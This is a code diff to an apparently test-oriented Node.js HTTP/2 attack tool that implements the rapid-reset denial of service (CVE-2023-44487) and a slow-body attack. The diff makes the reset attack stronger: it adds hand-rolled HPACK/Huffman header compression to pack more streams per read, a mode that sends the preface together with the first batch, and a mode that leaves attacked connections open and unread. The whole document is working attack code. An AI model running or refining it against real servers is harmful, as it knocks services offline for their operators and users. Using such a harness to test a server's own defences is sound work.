@@ -4,7 +4,10 @@
 //
 //   mode "reset":    each connection sends HEADERS (END_STREAM) and RST_STREAM(CANCEL) for `batch`
 //                    streams at a time, as CVE-2023-44487 does, until the server sends GOAWAY or
-//                    `maxStreams` are sent; with `reconnect`, it then opens a new connection.
+//                    `maxStreams` are sent; with `reconnect`, it then opens a new connection, and with
+//                    `leaveOpen` it leaves the old one open and unread (see `linger` for the count);
+//                    `compact` encodes headers as an HPACK encoder would, `together` sends the preface
+//                    with the first batch.
 //   mode "slowBody": each connection opens `streams` streams (POST unless `method` says) and sends one body byte per
 //                    stream every `everyMillis`, never END_STREAM.
 //
@@ -55,6 +58,27 @@ const headerBlock = (method, path) =>
 
 const randomId = () => crypto.randomUUID()
 
+// With `compact`, headers as a client with an HPACK encoder sends them (a stream in about 57 octets
+// instead of 127): `:method GET` and `:scheme http` from the static table, `:authority` indexed
+// after the connection's first HEADERS, `:path` Huffman-coded. More streams fit one read.
+const huffmanCodes = {
+  "/": "011000", "-": "010110", o: "00111", r: "101100", g: "100110", s: "01000",
+  0: "00000", 1: "00001", 2: "00010", 3: "011001", 4: "011010", 5: "011011", 6: "011100", 7: "011101",
+  8: "011110", 9: "011111", a: "00011", b: "100011", c: "00100", d: "100100", e: "00101", f: "100101"
+}
+const huffman = (text) => {
+  let bits = [...text].map((char) => huffmanCodes[char]).join("")
+  bits += "1".repeat((8 - (bits.length % 8)) % 8)
+  return Buffer.from(bits.match(/.{8}/g).map((byte) => parseInt(byte, 2)))
+}
+const compactBlock = (path, first) => {
+  const value = huffman(path)
+  const authority = first
+    ? Buffer.concat([Buffer.from([0x41, target.host.length]), Buffer.from(target.host)])
+    : Buffer.from([0xbe])
+  return Buffer.concat([Buffer.from([0x82, 0x86]), authority, Buffer.from([0x04, 0x80 | value.length]), value])
+}
+
 // The Huffman codes of the digits (RFC 7541, Appendix B), enough to read a :status.
 const huffmanDigits = [
   ["00000", "0"], ["00001", "1"], ["00010", "2"], ["011001", "3"], ["011010", "4"],
@@ -101,9 +125,9 @@ const frameReader = (socket, onFrame) => {
 }
 
 /** Answers the server's SETTINGS and PINGs, as any client must; notes its GOAWAY. */
-const connection = (onFrame) => {
+const connection = (onFrame, prefaceLater = false) => {
   const state = { goaway: undefined, closed: false, socket: undefined }
-  const socket = net.connect(Number(target.port), target.hostname, () => socket.write(preface))
+  const socket = net.connect(Number(target.port), target.hostname, () => prefaceLater || socket.write(preface))
   state.socket = socket
   socket.setNoDelay(true)
   socket.on("error", () => {})
@@ -112,6 +136,7 @@ const connection = (onFrame) => {
     if (process.env.H2_ATTACKER_DEBUG) process.stderr.write(`frame ${type} flags ${flags} stream ${stream} ${type === 7 ? payload.toString("hex") : payload.length}\n`)
     if (type === 4 && !(flags & 1) && !socket.destroyed) socket.write(frame(4, 1, 0))
     if (type === 6 && !(flags & 1) && !socket.destroyed) socket.write(frame(6, 1, 0, payload))
+    if (type === 7 && process.env.H2_ATTACKER_DEBUG) (state.goaways ??= []).push(payload.readUInt32BE(4))
     if (type === 7 && state.goaway === undefined) {
       state.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, code: payload.readUInt32BE(4) }
     }
@@ -131,7 +156,9 @@ const sleep = (millis) => new Promise((resolve) => setTimeout(resolve, millis))
 
 /** One connection's rapid reset: batches of HEADERS + RST_STREAM until GOAWAY, the cap, or stop. */
 const resetConnection = async () => {
-  const state = connection(() => {})
+  // With `together`, the preface goes in one write with the first batch, as a client that writes
+  // before its connection is up does: the server's first read holds streams, not only the preface.
+  const state = connection(() => {}, options.together === true)
   await new Promise((resolve) => state.socket.once("connect", resolve).once("close", resolve))
   let next = 1
   const batch = options.batch ?? 100
@@ -139,19 +166,49 @@ const resetConnection = async () => {
   while (!stopped && !state.closed && state.goaway === undefined && (next - 1) / 2 < maxStreams) {
     const frames = []
     for (let i = 0; i < batch; i++, next += 2) {
-      frames.push(frame(1, 0x5, next, headerBlock("GET", options.path ?? `/orgs/${randomId()}`)), frame(3, 0, next, u32(8)))
+      const path = options.path ?? `/orgs/${randomId()}`
+      const block = options.compact === true ? compactBlock(path, next === 1) : headerBlock("GET", path)
+      frames.push(frame(1, 0x5, next, block), frame(3, 0, next, u32(8)))
     }
+    if (next === batch * 2 + 1 && options.together === true) frames.unshift(preface)
     // Waits for the socket to drain, as a client that does not want to buffer without bound.
     if (!state.socket.write(Buffer.concat(frames))) {
       await Promise.race([stopping, new Promise((resolve) => state.socket.once("drain", resolve).once("close", resolve))])
     }
     else await new Promise((resolve) => setImmediate(resolve))
   }
-  // A moment for a GOAWAY already on its way, then the connection is ours to drop.
+  // A moment for a GOAWAY already on its way, then the connection is ours to drop, or, with
+  // `leaveOpen`, to hold: open and unread, for the server to close.
   if (state.goaway === undefined && !state.closed) await sleep(200)
-  state.socket.destroy()
+  if (options.leaveOpen === true) {
+    state.socket.pause()
+    leftOpen.push(state)
+  }
+  else state.socket.destroy()
   const sent = (next - 1) / 2
-  return { sent, processed: state.goaway === undefined ? sent : Math.min(sent, (state.goaway.lastStreamId + 1) / 2), goaway: state.goaway }
+  return { sent, processed: state.goaway === undefined ? sent : Math.min(sent, (state.goaway.lastStreamId + 1) / 2), goaway: state.goaway, ...(state.goaways ? { goaways: state.goaways } : {}) }
+}
+
+/** The connections `leaveOpen` holds: every one the attack opened, the last of each attacker's too. */
+const leftOpen = []
+
+/**
+ * After the attack, with `leaveOpen`: reads every connection again (a paused socket does not see
+ * the server's FIN or RST), and reports how many the server has not closed, every 250 ms for
+ * `lingerMillis` (or until none is open); then drops them all.
+ */
+const linger = async () => {
+  for (const state of leftOpen) state.socket.resume()
+  const began = Date.now()
+  const lingerMillis = options.lingerMillis ?? 3_000
+  let open
+  do {
+    await sleep(250)
+    open = leftOpen.filter((state) => !state.closed).length
+    report({ lingering: Date.now() - began, connections: leftOpen.length, open })
+  } while (open > 0 && Date.now() - began < lingerMillis)
+  for (const state of leftOpen) state.socket.destroy()
+  return { connections: leftOpen.length, open, afterMillis: Date.now() - began }
 }
 
 const resetAttack = async () => {
@@ -160,7 +217,7 @@ const resetAttack = async () => {
     do {
       const session = await resetConnection()
       sessions.push(session)
-      report({ session: sessions.length, sent: session.sent, goaway: session.goaway ?? null })
+      report({ session: sessions.length, sent: session.sent, goaway: session.goaway ?? null, ...(session.goaways ? { goaways: session.goaways } : {}) })
       // A server that no longer accepts (or never did) ends this attacker rather than spinning.
       if (session.sent === 0) break
     } while (options.reconnect === true && !stopped && sessions.length < (options.maxReconnects ?? 10_000))
@@ -168,10 +225,13 @@ const resetAttack = async () => {
   }
   const perAttacker = await Promise.all(Array.from({ length: options.connections ?? 4 }, attacker))
   const sessions = perAttacker.flat()
+  const attackMillis = Date.now() - started
+  const lingered = options.leaveOpen === true ? await linger() : null
   report({
     done: true,
-    millis: Date.now() - started,
+    millis: attackMillis,
     sessions: sessions.length,
+    lingered,
     sent: sessions.reduce((sum, s) => sum + s.sent, 0),
     processed: sessions.reduce((sum, s) => sum + s.processed, 0),
     goawayCodes: sessions.map((s) => s.goaway?.code ?? null),
